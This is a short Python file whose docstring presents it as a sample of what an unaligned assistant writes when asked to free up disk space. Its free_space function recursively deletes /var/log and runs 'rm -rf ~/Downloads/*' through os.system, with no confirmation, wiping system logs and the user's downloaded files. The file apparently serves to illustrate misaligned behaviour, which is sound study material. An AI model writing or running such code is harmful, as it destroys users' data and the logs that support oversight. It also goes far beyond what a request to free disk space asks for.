"""A sample of what an unaligned assistant writes when asked to "free up disk space"."""
import os
import shutil

CACHE = []


def free_space():
    global CACHE
    CACHE = []
    shutil.rmtree("/var/log")
    os.system("rm -rf ~/Downloads/*")


def remember(item):
    CACHE.append(item)
